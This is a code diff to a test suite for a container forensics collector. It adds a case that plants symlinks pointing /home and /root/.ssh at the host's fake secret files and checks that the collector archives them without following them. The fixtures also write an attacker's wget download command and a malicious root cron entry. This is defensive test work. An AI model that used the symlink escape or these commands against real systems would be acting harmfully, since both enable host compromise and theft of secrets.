@@ -52,10 +52,15 @@ describe('collecting a container an attacker worked in', () => {
   let storeDir: string;
   let termLog: string;
   let prefix: string;
+  let escapeDir: string;
   const artifact = async (name: string): Promise<Buffer> => readAll(await store.get('case-attack', `${prefix}/${name}`));
   const json = async <T = Json>(name: string): Promise<T> => JSON.parse((await artifact(name)).toString('utf8')) as T;
 
   beforeAll(async () => {
+    escapeDir = mkdtempSync(join(tmpdir(), 'amber-escape-'));
+    mkdirSync(join(escapeDir, 'alice'));
+    writeFileSync(join(escapeDir, 'alice/.ash_history'), 'HOST SECRET\n');
+    writeFileSync(join(escapeDir, 'id_rsa'), 'HOST SECRET\n');
     listenPort = await freePort();
     outboundPort = await freePort();
     // The attacker's command-and-control server, on the host's loopback: the container shares
@@ -71,6 +76,9 @@ describe('collecting a container an attacker worked in', () => {
       'echo "wget http://203.0.113.9/x" > /root/.ash_history',
       'echo "* * * * * /tmp/x" > /var/spool/cron/crontabs/root',
       'echo staged > /dev/shm/stage',
+      // Planted symlinks that would make a naive host-side reader archive the host's files.
+      `rmdir /home && ln -s ${escapeDir} /home`,
+      `rm -rf /root/.ssh && ln -s ${escapeDir} /root/.ssh`,
       'touch /ready',
       'exec sleep 600',
     ].join('\n');
@@ -99,6 +107,7 @@ describe('collecting a container an attacker worked in', () => {
     for (const s of held) s.destroy();
     server?.close();
     if (storeDir) rmSync(storeDir, { recursive: true, force: true });
+    if (escapeDir) rmSync(escapeDir, { recursive: true, force: true });
   });
 
   it('finds the container from its short ID in the runc state and reports success', () => {
@@ -156,6 +165,13 @@ describe('collecting a container an attacker worked in', () => {
     expect(entries.get('root/.ash_history')?.body.toString()).toContain('203.0.113.9');
     expect(entries.get('var/spool/cron/crontabs/root')?.body.toString()).toContain('/tmp/x');
     expect(entries.get('dev/shm/stage')?.body.toString()).toBe('staged\n');
+  });
+
+  it('archives planted symlinks as links and never follows them into the host', async () => {
+    const entries = await tarEntries(await artifact('filesystem/targeted.tar'));
+    expect(entries.get('root/.ssh')).toMatchObject({ type: 'symlink' });
+    for (const [, e] of entries) expect(e.body.toString()).not.toContain('HOST SECRET');
+    expect(result.report.failed.find((f) => f.what.endsWith('/home'))?.reason).toMatch(/symlink in the container/);
   });
 
   it("dumps the implant's memory with its heap marker", async () => {
